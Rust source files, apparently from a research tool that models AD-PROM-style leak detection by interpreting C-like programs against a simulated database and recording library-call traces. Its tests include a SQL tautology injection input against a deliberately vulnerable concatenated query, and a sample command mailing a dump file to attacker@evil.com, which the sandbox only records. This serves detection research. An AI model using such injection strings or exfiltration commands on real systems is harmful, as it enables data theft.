                dst.push_str(&str_arg(1));
                self.store_into(arg_exprs.first(), RtValue::Str(dst.clone()), frame);
                RtValue::Str(dst)
            }
            LibCall::Sprintf | LibCall::Snprintf => {
                // sprintf(dst, fmt, ...) — snprintf has a size arg we ignore.
                let (fmt_idx, rest_idx) = if lc == LibCall::Snprintf {
                    (2, 3)
                } else {
                    (1, 2)
                };
                let text = format_printf(&str_arg(fmt_idx), &args[rest_idx.min(args.len())..]);
                self.store_into(arg_exprs.first(), RtValue::Str(text.clone()), frame);
                RtValue::Str(text)
            }
            LibCall::Strcmp => {
                let a = str_arg(0);
                let b = str_arg(1);
                RtValue::Int(match a.cmp(&b) {
                    std::cmp::Ordering::Less => -1,
                    std::cmp::Ordering::Equal => 0,
                    std::cmp::Ordering::Greater => 1,
                })
            }
            LibCall::Strlen => RtValue::Int(str_arg(0).len() as i64),
            LibCall::Strstr => {
                let hay = str_arg(0);
                let needle = str_arg(1);
                match hay.find(&needle) {
                    Some(pos) => RtValue::Str(hay[pos..].to_string()),
                    None => RtValue::Null,
                }
            }
            LibCall::Atoi => RtValue::Int(parse_prefix_int(&str_arg(0))),
            LibCall::Atof => RtValue::Float(str_arg(0).trim().parse().unwrap_or(0.0)),
            LibCall::Memcpy => {
                let src = arg(1);
                self.store_into(arg_exprs.first(), src.clone(), frame);
                src
            }
            LibCall::Memset => arg(0),

            // ---- misc ----
            LibCall::System => {
                self.outcome.system_commands.push(str_arg(0));
                RtValue::Int(0)
            }
            LibCall::Exit => return Ok(None),
            LibCall::Malloc => RtValue::Str(String::new()),
            LibCall::Free => RtValue::Null,
            LibCall::Rand => {
                // xorshift64*: deterministic per seed.
                self.rng_state ^= self.rng_state >> 12;
                self.rng_state ^= self.rng_state << 25;
                self.rng_state ^= self.rng_state >> 27;
                RtValue::Int(((self.rng_state.wrapping_mul(0x2545F4914F6CDD1D)) >> 33) as i64)
            }
            LibCall::Srand => {
                self.rng_state = arg(0).as_int().unwrap_or(0) as u64 | 1;
                RtValue::Null
            }
            LibCall::Time => RtValue::Int(1_600_000_000),
            LibCall::Getenv => RtValue::Str(String::new()),
            LibCall::Sleep => RtValue::Int(0),
            LibCall::Abs => RtValue::Int(arg(0).as_int().unwrap_or(0).abs()),
            LibCall::Sqrt => RtValue::Float(arg(0).as_number().unwrap_or(0.0).max(0.0).sqrt()),
        };
        Ok(Some(v))
    }

    fn read_input(&mut self) -> RtValue {
        match self.inputs.get(self.next_input) {
            Some(line) => {
                self.next_input += 1;
                RtValue::Str(line.clone())
            }
            None => RtValue::Str(String::new()),
        }
    }

    /// Emulates out-parameter writes (`strcpy(dst, ..)`): when the argument
    /// expression is a variable, store the new value into it.
    fn store_into(&mut self, arg: Option<&Expr>, value: RtValue, frame: &mut Frame) {
        if let Some(Expr::Var(name)) = arg {
            frame.insert(name.clone(), value);
        }
    }

    fn write_file(&mut self, file: RtValue, text: &str) {
        let path = match file {
            RtValue::File(id) => self.open_files.get(id).cloned(),
            RtValue::Str(path) => Some(path),
            _ => None,
        };
        let path = path.unwrap_or_else(|| "<unknown>".to_string());
        self.outcome.files.entry(path).or_default().push_str(text);
    }
}

/// Extension payload for a call (§VII): query signatures for submissions,
/// file paths for file writes, the command line for `system`.
fn event_detail(lc: LibCall, args: &[RtValue], open_files: &[String]) -> Option<String> {
    let file_path = |v: Option<&RtValue>| -> Option<String> {
        match v {
            Some(RtValue::File(id)) => open_files.get(*id).cloned(),
            Some(RtValue::Str(path)) => Some(path.clone()),
            _ => None,
        }
    };
    if lc.is_query_submission() {
        // The SQL text position varies: PQexec(conn, sql) / PQprepare(conn,
        // name, sql) / mysql_query(conn, sql) / mysql_stmt_prepare(conn, sql).
        let sql_index = match lc {
            LibCall::PQprepare => 2,
            _ => 1,
        };
        return args
            .get(sql_index)
            .map(|v| adprom_db::query_signature(&v.render()));
    }
    match lc {
        LibCall::Fopen => args.first().map(|v| v.render()),
        LibCall::Fprintf => file_path(args.first()),
        LibCall::Fputs | LibCall::Fputc => file_path(args.get(1)),
        LibCall::Fwrite => file_path(args.get(3)),
        LibCall::Write => file_path(args.first()),
        LibCall::System | LibCall::Remove => args.first().map(|v| v.render()),
        _ => None,
    }
}

fn binary_op(op: BinOp, a: RtValue, b: RtValue) -> RtValue {
    use BinOp::*;
    match op {
        Add => match (&a, &b) {
            (RtValue::Str(x), _) => RtValue::Str(format!("{x}{}", b.render())),
            (_, RtValue::Str(y)) => RtValue::Str(format!("{}{y}", a.render())),
            (RtValue::Int(x), RtValue::Int(y)) => RtValue::Int(x.wrapping_add(*y)),
            _ => num_op(&a, &b, |x, y| x + y),
        },
        Sub => int_preserving(&a, &b, i64::wrapping_sub, |x, y| x - y),
        Mul => int_preserving(&a, &b, i64::wrapping_mul, |x, y| x * y),
        Div => {
            if let (RtValue::Int(x), RtValue::Int(y)) = (&a, &b) {
                if *y != 0 {
                    return RtValue::Int(x / y);
                }
                return RtValue::Int(0);
            }
            let y = b.as_number().unwrap_or(0.0);
            if y == 0.0 {
                RtValue::Float(0.0)
            } else {
                num_op(&a, &b, |x, y| x / y)
            }
        }
        Rem => {
            let x = a.as_int().unwrap_or(0);
            let y = b.as_int().unwrap_or(0);
            RtValue::Int(if y == 0 { 0 } else { x % y })
        }
        Eq | Ne | Lt | Le | Gt | Ge => {
            let ord = compare(&a, &b);
            let r = match (op, ord) {
                (Eq, Some(o)) => o == std::cmp::Ordering::Equal,
                (Ne, Some(o)) => o != std::cmp::Ordering::Equal,
                (Lt, Some(o)) => o == std::cmp::Ordering::Less,
                (Le, Some(o)) => o != std::cmp::Ordering::Greater,
                (Gt, Some(o)) => o == std::cmp::Ordering::Greater,
                (Ge, Some(o)) => o != std::cmp::Ordering::Less,
                // Null comparisons: only != is true.
                (Ne, None) => !(matches!(a, RtValue::Null) && matches!(b, RtValue::Null)),
                (Eq, None) => matches!(a, RtValue::Null) && matches!(b, RtValue::Null),
                _ => false,
            };
            RtValue::Bool(r)
        }
        And | Or => unreachable!("short-circuited in eval"),
    }
}

fn int_preserving(
    a: &RtValue,
    b: &RtValue,
    int_op: fn(i64, i64) -> i64,
    float_op: fn(f64, f64) -> f64,
) -> RtValue {
    if let (RtValue::Int(x), RtValue::Int(y)) = (a, b) {
        RtValue::Int(int_op(*x, *y))
    } else {
        num_op(a, b, float_op)
    }
}

fn num_op(a: &RtValue, b: &RtValue, f: fn(f64, f64) -> f64) -> RtValue {
    RtValue::Float(f(
        a.as_number().unwrap_or(0.0),
        b.as_number().unwrap_or(0.0),
    ))
}

fn compare(a: &RtValue, b: &RtValue) -> Option<std::cmp::Ordering> {
    match (a, b) {
        (RtValue::Null, _) | (_, RtValue::Null) => None,
        (RtValue::Str(x), RtValue::Str(y)) => {
            // Numeric-looking strings compare numerically, else lexically.
            match (x.trim().parse::<f64>(), y.trim().parse::<f64>()) {
                (Ok(nx), Ok(ny)) => nx.partial_cmp(&ny),
                _ => Some(x.cmp(y)),
            }
        }
        _ => {
            let na = a.as_number()?;
            let nb = b.as_number()?;
            na.partial_cmp(&nb)
        }
    }
}

fn parse_prefix_int(s: &str) -> i64 {
    let t = s.trim_start();
    let (sign, rest) = match t.strip_prefix('-') {
        Some(r) => (-1, r),
        None => (1, t.strip_prefix('+').unwrap_or(t)),
    };
    let digits: String = rest.chars().take_while(|c| c.is_ascii_digit()).collect();
    digits.parse::<i64>().map(|v| sign * v).unwrap_or(0)
}

/// Minimal printf formatting: consumes `%s`/`%d`/`%i`/`%f`/`%c` in order;
/// `%%` emits a literal percent; unknown directives are copied through.
pub fn format_printf(fmt: &str, args: &[RtValue]) -> String {
    let mut out = String::with_capacity(fmt.len());
    let mut arg_iter = args.iter();
    let mut chars = fmt.chars().peekable();
    while let Some(c) = chars.next() {
        if c != '%' {
            out.push(c);
            continue;
        }
        match chars.next() {
            Some('%') => out.push('%'),
            Some('s') | Some('c') => {
                out.push_str(&arg_iter.next().map(RtValue::render).unwrap_or_default())
            }
            Some('d') | Some('i') => {
                let v = arg_iter.next().and_then(RtValue::as_int).unwrap_or(0);
                out.push_str(&v.to_string());
            }
            Some('f') => {
                let v = arg_iter.next().and_then(RtValue::as_number).unwrap_or(0.0);
                out.push_str(&format!("{v:.6}"));
            }
            Some(other) => {
                out.push('%');
                out.push(other);
            }
            None => out.push('%'),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::collector::TraceCollector;
    use adprom_db::Database;
    use adprom_lang::parse_program;

    fn session_with_items() -> ClientSession {
        let mut db = Database::new("shop");
        db.execute("CREATE TABLE items (ID INT, name TEXT)")
            .unwrap();
        db.execute(
            "INSERT INTO items VALUES (10, 'apple'), (11, 'pear'), (12, 'plum'), (13, 'fig')",
        )
        .unwrap();
        ClientSession::connect(db)
    }

    fn run(src: &str, inputs: &[&str]) -> (Vec<String>, ExecOutcome) {
        let prog = parse_program(src).unwrap();
        let mut session = session_with_items();
        let mut collector = TraceCollector::new();
        let inputs: Vec<String> = inputs.iter().map(|s| s.to_string()).collect();
        let outcome = run_program(
            &prog,
            &mut session,
            &inputs,
            &HashMap::new(),
            &mut collector,
            &ExecConfig::default(),
        )
        .unwrap();
        (collector.names(), outcome)
    }

    #[test]
    fn fig1_original_selectivity_one() {
        // Fig. 1 original code: WHERE ID = 10 retrieves one row →
        // PQexec, PQntuples, PQgetvalue, printf.
        let (names, _) = run(
            r#"
            fn main() {
                let query = "SELECT * FROM items WHERE ID = 10";
                let result = PQexec(conn, query);
                let rows = PQntuples(result);
                for (let r = 0; r < rows; r = r + 1) {
                    printf("%s", PQgetvalue(result, r, 0));
                }
            }
            "#,
            &[],
        );
        assert_eq!(names, vec!["PQexec", "PQntuples", "PQgetvalue", "printf"]);
    }

    #[test]
    fn fig1_modified_selectivity_many() {
        // Fig. 1 attack: WHERE ID >= 10 retrieves 4 rows → the
        // (PQgetvalue, printf) pair repeats once per row.
        let (names, _) = run(
            r#"
            fn main() {
                let query = "SELECT * FROM items WHERE ID >= 10";
                let result = PQexec(conn, query);
                let rows = PQntuples(result);
                for (let r = 0; r < rows; r = r + 1) {
                    printf("%s", PQgetvalue(result, r, 0));
                }
            }
            "#,
            &[],
        );
        assert_eq!(names.len(), 2 + 2 * 4);
        assert_eq!(
            names[2..6],
            ["PQgetvalue", "printf", "PQgetvalue", "printf"]
        );
    }

    #[test]
    fn fig2_injection_changes_call_sequence() {
        // Fig. 2 vulnerable banking snippet: normal input vs tautology.
        let src = r#"
            fn main() {
                let accNo = scanf();
                let query = "";
                let ts = "SELECT * FROM items where ID='";
                let tr = "'";
                strcpy(query, ts);
                strcat(query, accNo);
                strcat(query, tr);
                mysql_query(conn, query);
                let result = mysql_store_result(conn);
                let row = mysql_fetch_row(result);
                while (row != null) {
                    printf("%s ", row[0]);
                    row = mysql_fetch_row(result);
                }
            }
        "#;
        let (normal, _) = run(src, &["10"]);
        let (attacked, _) = run(src, &["1' OR '1'='1"]);
        // Normal: one row → fetch, print, fetch(None).
        let fetches = |v: &[String]| v.iter().filter(|n| *n == "mysql_fetch_row").count();
        let prints = |v: &[String]| v.iter().filter(|n| *n == "printf").count();
        assert_eq!(prints(&normal), 1);
        assert_eq!(fetches(&normal), 2);
        // Injection: all 4 rows → 4 prints, 5 fetches.
        assert_eq!(prints(&attacked), 4);
        assert_eq!(fetches(&attacked), 5);
    }

    #[test]
    fn caller_is_recorded() {
        let prog = parse_program("fn main() { helper(); }\nfn helper() { puts(\"x\"); }").unwrap();
        let mut session = session_with_items();
        let mut collector = TraceCollector::new();
        run_program(
            &prog,
            &mut session,
            &[],
            &HashMap::new(),
            &mut collector,
            &ExecConfig::default(),
        )
        .unwrap();
        assert_eq!(collector.events()[0].caller, "helper");
    }

    #[test]
    fn labels_are_applied_dynamically() {
        let prog = parse_program("fn main() { let x = \"v\"; printf(\"%s\", x); }").unwrap();
        let mut labels = HashMap::new();
        prog.for_each_call(|site, callee, _| {
            if callee.name() == "printf" {
                labels.insert(site, "printf_Q9".to_string());
            }
        });
        let mut session = session_with_items();
        let mut collector = TraceCollector::new();
        run_program(
            &prog,
            &mut session,
            &[],
            &labels,
            &mut collector,
            &ExecConfig::default(),
        )
        .unwrap();
        assert_eq!(collector.names(), vec!["printf_Q9"]);
    }

    #[test]
    fn step_limit_stops_infinite_loop() {
        let prog = parse_program("fn main() { while (1) { let x = 1; } }").unwrap();
        let mut session = session_with_items();
        let mut collector = TraceCollector::new();
        let err = run_program(
            &prog,
            &mut session,
            &[],
            &HashMap::new(),
            &mut collector,
            &ExecConfig {
                step_limit: 10_000,
                ..ExecConfig::default()
            },
        )
        .unwrap_err();
        assert_eq!(err, RuntimeError::StepLimit);
    }

    #[test]
    fn exit_terminates_program() {
        let (names, outcome) = run(
            "fn main() { puts(\"before\"); exit(0); puts(\"after\"); }",
            &[],
        );
        assert_eq!(names, vec!["puts", "exit"]);
        assert!(outcome.exited || outcome.stdout.contains("before"));
        assert!(!outcome.stdout.contains("after"));
    }

    #[test]
    fn file_writes_land_in_virtual_fs() {
        let (_, outcome) = run(
            r#"
            fn main() {
                let f = fopen("out.txt", "w");
                fprintf(f, "value=%d", 42);
                fputs("!", f);
                fclose(f);
            }
            "#,
            &[],
        );
        assert_eq!(outcome.files.get("out.txt").unwrap(), "value=42!");
    }

    #[test]
    fn system_commands_are_captured() {
        let (_, outcome) = run(
            "fn main() { system(\"mail attacker@evil.com < dump.txt\"); }",
            &[],
        );
        assert_eq!(outcome.system_commands.len(), 1);
    }

    #[test]
    fn printf_formatting() {
        assert_eq!(
            format_printf(
                "%s has %d items (%f%%)",
                &[
                    RtValue::Str("cart".into()),
                    RtValue::Int(3),
                    RtValue::Float(99.5)
                ]
            ),
            "cart has 3 items (99.500000%)"
        );
        assert_eq!(format_printf("100%%", &[]), "100%");
    }

    #[test]
    fn atoi_parses_prefix() {
        assert_eq!(parse_prefix_int("42abc"), 42);
        assert_eq!(parse_prefix_int("  -7"), -7);
        assert_eq!(parse_prefix_int("x"), 0);
    }

    #[test]
    fn user_function_return_value() {
        let (_, outcome) = run(
            r#"
            fn main() { printf("%d", double(21)); }
            fn double(x) { return x * 2; }
            "#,
            &[],
        );
        assert_eq!(outcome.stdout, "42");
    }

    #[test]
    fn missing_table_degrades_gracefully() {
        // A mutated program may query a table that does not exist; the run
        // must produce an empty result set, not abort.
        let (names, outcome) = run(
            r#"
            fn main() {
                let r = PQexec(conn, "SELECT * FROM no_such_table");
                let n = PQntuples(r);
                printf("%d rows
", n);
                printf("%s", PQgetvalue(r, 0, 0));
                mysql_query(conn, "SELECT * FROM also_missing");
                let m = mysql_store_result(conn);
                let row = mysql_fetch_row(m);
                if (row == null) { puts("empty"); }
            }
            "#,
            &[],
        );
        assert!(outcome.stdout.contains("0 rows"));
        assert!(outcome.stdout.contains("empty"));
        assert_eq!(names.iter().filter(|n| *n == "printf").count(), 2);
    }

    #[test]
    fn scanf_consumes_inputs_in_order() {
        let (_, outcome) = run(
            r#"
            fn main() {
                let a = scanf();
                let b = scanf();
                printf("%s-%s", a, b);
            }
            "#,
            &["first", "second"],
        );
        assert_eq!(outcome.stdout, "first-second");
    }
}
