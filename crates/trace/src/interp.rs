//! The program runtime: a tree-walking interpreter that executes application
//! programs against the database client layer, reporting every library call
//! to a [`CallSink`].
//!
//! This is the dynamic half of the substrate replacing Dyninst-instrumented
//! native execution: the program *really runs*, queries *really execute*,
//! and the emitted call sequence depends on the data — one extra matching
//! row produces one extra `mysql_fetch_row`/`printf` pair, exactly the
//! behavioural signal AD-PROM monitors.
//!
//! Observation names come from the `site_labels` map produced by the static
//! Analyzer — this is the "dynamic instrumentation" of §IV-D: labeled
//! output sites report `printf_Q<bid>` instead of `printf`.
//!
//! The tree-walk is the *reference semantics* of the language. The bytecode
//! VM in [`crate::vm`] is the production path; both delegate every library
//! call to the shared [`crate::host`] layer, and the differential suite in
//! `tests/vm_equivalence.rs` pins their traces bit-identical.

use crate::collector::{CallEvent, CallSink};
use crate::host::{binary_op, index_value, unary_op, Host};
use crate::value::RtValue;
use adprom_client::ClientSession;
use adprom_lang::{BinOp, CallSiteId, Callee, Expr, Function, OutParam, Program, Stmt};
use std::collections::HashMap;
use std::fmt;

/// Which runtime executes programs (see [`crate::vm::execute_program`]).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum ExecMode {
    /// The reference tree-walking interpreter.
    TreeWalk,
    /// The bytecode VM — compile once, dispatch a flat instruction stream.
    #[default]
    Vm,
}

/// Interpreter configuration.
#[derive(Debug, Clone)]
pub struct ExecConfig {
    /// Evaluation-step budget; exceeded ⇒ [`RuntimeError::StepLimit`].
    pub step_limit: u64,
    /// Seed for `rand()`.
    pub rng_seed: u64,
    /// Attach extension payloads (query signatures, file paths, system
    /// commands) to the matching call events — the §VII mitigations. Off by
    /// default: the baseline collector records names and callers only.
    pub extended_events: bool,
    /// Which runtime [`crate::vm::execute_program`] dispatches to.
    pub mode: ExecMode,
}

impl Default for ExecConfig {
    fn default() -> ExecConfig {
        ExecConfig {
            step_limit: 5_000_000,
            rng_seed: 0xAD50,
            extended_events: false,
            mode: ExecMode::default(),
        }
    }
}

/// What the program produced.
#[derive(Debug, Clone, Default)]
pub struct ExecOutcome {
    /// Everything written to stdout.
    pub stdout: String,
    /// Virtual filesystem contents (path → content).
    pub files: HashMap<String, String>,
    /// Commands passed to `system()`.
    pub system_commands: Vec<String>,
    /// Evaluation steps consumed. The only field that legitimately differs
    /// between execution modes: the tree-walk counts AST nodes, the VM
    /// counts instructions.
    pub steps: u64,
    /// True if the program called `exit()`.
    pub exited: bool,
}

/// Runtime errors.
#[derive(Debug, Clone, PartialEq)]
pub enum RuntimeError {
    /// Call to a function that does not exist.
    UndefinedFunction(String),
    /// The step budget was exhausted (runaway loop).
    StepLimit,
    /// The program has no `main`.
    NoMain,
    /// The program failed to compile to bytecode (VM mode only).
    Compile(String),
    /// User-call nesting exceeded the VM's frame budget (VM mode only; the
    /// tree-walk's equivalent limit is the native stack).
    CallDepth,
}

impl fmt::Display for RuntimeError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            RuntimeError::UndefinedFunction(name) => write!(f, "undefined function `{name}`"),
            RuntimeError::StepLimit => write!(f, "step limit exceeded"),
            RuntimeError::NoMain => write!(f, "program has no main"),
            RuntimeError::Compile(msg) => write!(f, "bytecode compilation failed: {msg}"),
            RuntimeError::CallDepth => write!(f, "call depth exceeded"),
        }
    }
}

impl std::error::Error for RuntimeError {}

enum Flow {
    Normal,
    Break,
    Continue,
    Return(RtValue),
    Exit,
}

/// Runs a program to completion on the tree-walking interpreter.
///
/// * `session` — the database connection the program talks to;
/// * `inputs` — the stdin lines consumed by `scanf`/`gets`/`fgets` (a test
///   case is exactly such an input vector);
/// * `site_labels` — observation names per call site (from the Analyzer);
///   pass an empty map to trace raw names;
/// * `sink` — where call events go.
///
/// This entry point always tree-walks, whatever `config.mode` says — it *is*
/// the reference. Use [`crate::vm::execute_program`] for mode dispatch.
pub fn run_program(
    prog: &Program,
    session: &mut ClientSession,
    inputs: &[String],
    site_labels: &HashMap<CallSiteId, String>,
    sink: &mut dyn CallSink,
    config: &ExecConfig,
) -> Result<ExecOutcome, RuntimeError> {
    let main = prog.entry().ok_or(RuntimeError::NoMain)?;
    let mut interp = Interp {
        prog,
        sink,
        labels: site_labels,
        step_limit: config.step_limit,
        host: Host::new(session, inputs, config),
    };
    let mut frame = HashMap::new();
    if let Flow::Exit = interp.run_function(main, &mut frame)? {
        interp.host.outcome.exited = true;
    }
    Ok(interp.host.outcome)
}

struct Interp<'a> {
    prog: &'a Program,
    sink: &'a mut dyn CallSink,
    labels: &'a HashMap<CallSiteId, String>,
    step_limit: u64,
    host: Host<'a>,
}

type Frame = HashMap<String, RtValue>;

enum Evaled {
    Value(RtValue),
    Exit,
}

/// Evaluates an expression to a value, early-returning on `exit()`.
macro_rules! eval_value {
    ($self:ident, $e:expr, $caller:expr, $frame:expr) => {
        match $self.eval($e, $caller, $frame)? {
            Evaled::Value(v) => v,
            Evaled::Exit => return Ok(Evaled::Exit),
        }
    };
}

impl Interp<'_> {
    fn tick(&mut self) -> Result<(), RuntimeError> {
        self.host.outcome.steps += 1;
        if self.host.outcome.steps > self.step_limit {
            return Err(RuntimeError::StepLimit);
        }
        Ok(())
    }

    fn run_function(&mut self, func: &Function, frame: &mut Frame) -> Result<Flow, RuntimeError> {
        for stmt in &func.body {
            match self.run_stmt(stmt, &func.name, frame)? {
                Flow::Normal => {}
                other => return Ok(other),
            }
        }
        Ok(Flow::Normal)
    }

    fn run_block(
        &mut self,
        stmts: &[Stmt],
        caller: &str,
        frame: &mut Frame,
    ) -> Result<Flow, RuntimeError> {
        for stmt in stmts {
            match self.run_stmt(stmt, caller, frame)? {
                Flow::Normal => {}
                other => return Ok(other),
            }
        }
        Ok(Flow::Normal)
    }

    fn run_stmt(
        &mut self,
        stmt: &Stmt,
        caller: &str,
        frame: &mut Frame,
    ) -> Result<Flow, RuntimeError> {
        self.tick()?;
        match stmt {
            Stmt::Let(name, e) | Stmt::Assign(name, e) => {
                let v = match self.eval(e, caller, frame)? {
                    Evaled::Value(v) => v,
                    Evaled::Exit => return Ok(Flow::Exit),
                };
                frame.insert(name.clone(), v);
                Ok(Flow::Normal)
            }
            Stmt::Expr(e) => match self.eval(e, caller, frame)? {
                Evaled::Value(_) => Ok(Flow::Normal),
                Evaled::Exit => Ok(Flow::Exit),
            },
            Stmt::If {
                cond,
                then_branch,
                else_branch,
            } => {
                let c = match self.eval(cond, caller, frame)? {
                    Evaled::Value(v) => v,
                    Evaled::Exit => return Ok(Flow::Exit),
                };
                if c.truthy() {
                    self.run_block(then_branch, caller, frame)
                } else {
                    self.run_block(else_branch, caller, frame)
                }
            }
            Stmt::While { cond, body } => loop {
                let c = match self.eval(cond, caller, frame)? {
                    Evaled::Value(v) => v,
                    Evaled::Exit => return Ok(Flow::Exit),
                };
                if !c.truthy() {
                    return Ok(Flow::Normal);
                }
                match self.run_block(body, caller, frame)? {
                    Flow::Normal | Flow::Continue => {}
                    Flow::Break => return Ok(Flow::Normal),
                    other => return Ok(other),
                }
                self.tick()?;
            },
            Stmt::For {
                init,
                cond,
                step,
                body,
            } => {
                match self.run_stmt(init, caller, frame)? {
                    Flow::Normal => {}
                    other => return Ok(other),
                }
                loop {
                    let c = match self.eval(cond, caller, frame)? {
                        Evaled::Value(v) => v,
                        Evaled::Exit => return Ok(Flow::Exit),
                    };
                    if !c.truthy() {
                        return Ok(Flow::Normal);
                    }
                    match self.run_block(body, caller, frame)? {
                        Flow::Normal | Flow::Continue => {}
                        Flow::Break => return Ok(Flow::Normal),
                        other => return Ok(other),
                    }
                    match self.run_stmt(step, caller, frame)? {
                        Flow::Normal => {}
                        other => return Ok(other),
                    }
                    self.tick()?;
                }
            }
            Stmt::Return(e) => {
                let v = match e {
                    None => RtValue::Null,
                    Some(e) => match self.eval(e, caller, frame)? {
                        Evaled::Value(v) => v,
                        Evaled::Exit => return Ok(Flow::Exit),
                    },
                };
                Ok(Flow::Return(v))
            }
            Stmt::Break => Ok(Flow::Break),
            Stmt::Continue => Ok(Flow::Continue),
        }
    }

    fn eval(&mut self, e: &Expr, caller: &str, frame: &mut Frame) -> Result<Evaled, RuntimeError> {
        self.tick()?;
        let v = match e {
            Expr::Int(v) => RtValue::Int(*v),
            Expr::Float(v) => RtValue::Float(*v),
            Expr::Str(s) => RtValue::Str(s.as_str().into()),
            Expr::Bool(b) => RtValue::Bool(*b),
            Expr::Null => RtValue::Null,
            // Uninitialized variables read as NULL (C uninitialized-global
            // semantics) — attack-mutated programs may reference variables
            // declared on other paths, and the run must not abort.
            Expr::Var(name) => frame.get(name).cloned().unwrap_or(RtValue::Null),
            Expr::Unary(op, a) => {
                let va = eval_value!(self, a, caller, frame);
                unary_op(*op, va)
            }
            Expr::Binary(op, a, b) => {
                // Short-circuit logicals.
                if *op == BinOp::And {
                    let va = eval_value!(self, a, caller, frame);
                    if !va.truthy() {
                        return Ok(Evaled::Value(RtValue::Bool(false)));
                    }
                    let vb = eval_value!(self, b, caller, frame);
                    return Ok(Evaled::Value(RtValue::Bool(vb.truthy())));
                }
                if *op == BinOp::Or {
                    let va = eval_value!(self, a, caller, frame);
                    if va.truthy() {
                        return Ok(Evaled::Value(RtValue::Bool(true)));
                    }
                    let vb = eval_value!(self, b, caller, frame);
                    return Ok(Evaled::Value(RtValue::Bool(vb.truthy())));
                }
                let va = eval_value!(self, a, caller, frame);
                let vb = eval_value!(self, b, caller, frame);
                binary_op(*op, va, vb)
            }
            Expr::Index(a, idx) => {
                let va = eval_value!(self, a, caller, frame);
                let vi = eval_value!(self, idx, caller, frame);
                index_value(va, vi)
            }
            Expr::Call {
                site, callee, args, ..
            } => {
                // Evaluate arguments first (their nested calls are emitted
                // before this one, matching the trace order of native code).
                let mut arg_values = Vec::with_capacity(args.len());
                for a in args {
                    arg_values.push(eval_value!(self, a, caller, frame));
                }
                match callee {
                    Callee::User(name) => {
                        let func = self
                            .prog
                            .function(name)
                            .ok_or_else(|| RuntimeError::UndefinedFunction(name.clone()))?
                            .clone();
                        let mut callee_frame: Frame = HashMap::new();
                        for (p, v) in func.params.iter().zip(arg_values) {
                            callee_frame.insert(p.clone(), v);
                        }
                        match self.run_function(&func, &mut callee_frame)? {
                            Flow::Return(v) => v,
                            Flow::Exit => return Ok(Evaled::Exit),
                            _ => RtValue::Null,
                        }
                    }
                    Callee::Library(lc) => {
                        let name: std::sync::Arc<str> = self
                            .labels
                            .get(site)
                            .map(|l| l.as_str().into())
                            .unwrap_or_else(|| lc.name().into());
                        let detail = self.host.detail(*lc, &arg_values);
                        self.sink.on_call(CallEvent {
                            name,
                            call: *lc,
                            caller: caller.into(),
                            site: *site,
                            detail,
                        });
                        match self.host.lib_call(*lc, &arg_values) {
                            Some(v) => {
                                // Out-parameter emulation (`strcpy(dst, ..)`,
                                // `scanf("%s", v)`): when the target argument
                                // is a plain variable, the call's value is
                                // also stored into it.
                                let target = match lc.out_param() {
                                    Some(OutParam::FirstArg) => args.first(),
                                    Some(OutParam::LastArg) => args.last(),
                                    None => None,
                                };
                                if let Some(Expr::Var(var)) = target {
                                    frame.insert(var.clone(), v.clone());
                                }
                                v
                            }
                            None => return Ok(Evaled::Exit),
                        }
                    }
                }
            }
        };
        Ok(Evaled::Value(v))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::collector::TraceCollector;
    use adprom_db::Database;
    use adprom_lang::parse_program;

    fn session_with_items() -> ClientSession {
        let mut db = Database::new("shop");
        db.execute("CREATE TABLE items (ID INT, name TEXT)")
            .unwrap();
        db.execute(
            "INSERT INTO items VALUES (10, 'apple'), (11, 'pear'), (12, 'plum'), (13, 'fig')",
        )
        .unwrap();
        ClientSession::connect(db)
    }

    fn run(src: &str, inputs: &[&str]) -> (Vec<String>, ExecOutcome) {
        let prog = parse_program(src).unwrap();
        let mut session = session_with_items();
        let mut collector = TraceCollector::new();
        let inputs: Vec<String> = inputs.iter().map(|s| s.to_string()).collect();
        let outcome = run_program(
            &prog,
            &mut session,
            &inputs,
            &HashMap::new(),
            &mut collector,
            &ExecConfig::default(),
        )
        .unwrap();
        (collector.names(), outcome)
    }

    #[test]
    fn fig1_original_selectivity_one() {
        // Fig. 1 original code: WHERE ID = 10 retrieves one row →
        // PQexec, PQntuples, PQgetvalue, printf.
        let (names, _) = run(
            r#"
            fn main() {
                let query = "SELECT * FROM items WHERE ID = 10";
                let result = PQexec(conn, query);
                let rows = PQntuples(result);
                for (let r = 0; r < rows; r = r + 1) {
                    printf("%s", PQgetvalue(result, r, 0));
                }
            }
            "#,
            &[],
        );
        assert_eq!(names, vec!["PQexec", "PQntuples", "PQgetvalue", "printf"]);
    }

    #[test]
    fn fig1_modified_selectivity_many() {
        // Fig. 1 attack: WHERE ID >= 10 retrieves 4 rows → the
        // (PQgetvalue, printf) pair repeats once per row.
        let (names, _) = run(
            r#"
            fn main() {
                let query = "SELECT * FROM items WHERE ID >= 10";
                let result = PQexec(conn, query);
                let rows = PQntuples(result);
                for (let r = 0; r < rows; r = r + 1) {
                    printf("%s", PQgetvalue(result, r, 0));
                }
            }
            "#,
            &[],
        );
        assert_eq!(names.len(), 2 + 2 * 4);
        assert_eq!(
            names[2..6],
            ["PQgetvalue", "printf", "PQgetvalue", "printf"]
        );
    }

    #[test]
    fn fig2_injection_changes_call_sequence() {
        // Fig. 2 vulnerable banking snippet: normal input vs tautology.
        let src = r#"
            fn main() {
                let accNo = scanf();
                let query = "";
                let ts = "SELECT * FROM items where ID='";
                let tr = "'";
                strcpy(query, ts);
                strcat(query, accNo);
                strcat(query, tr);
                mysql_query(conn, query);
                let result = mysql_store_result(conn);
                let row = mysql_fetch_row(result);
                while (row != null) {
                    printf("%s ", row[0]);
                    row = mysql_fetch_row(result);
                }
            }
        "#;
        let (normal, _) = run(src, &["10"]);
        let (attacked, _) = run(src, &["1' OR '1'='1"]);
        // Normal: one row → fetch, print, fetch(None).
        let fetches = |v: &[String]| v.iter().filter(|n| *n == "mysql_fetch_row").count();
        let prints = |v: &[String]| v.iter().filter(|n| *n == "printf").count();
        assert_eq!(prints(&normal), 1);
        assert_eq!(fetches(&normal), 2);
        // Injection: all 4 rows → 4 prints, 5 fetches.
        assert_eq!(prints(&attacked), 4);
        assert_eq!(fetches(&attacked), 5);
    }

    #[test]
    fn caller_is_recorded() {
        let prog = parse_program("fn main() { helper(); }\nfn helper() { puts(\"x\"); }").unwrap();
        let mut session = session_with_items();
        let mut collector = TraceCollector::new();
        run_program(
            &prog,
            &mut session,
            &[],
            &HashMap::new(),
            &mut collector,
            &ExecConfig::default(),
        )
        .unwrap();
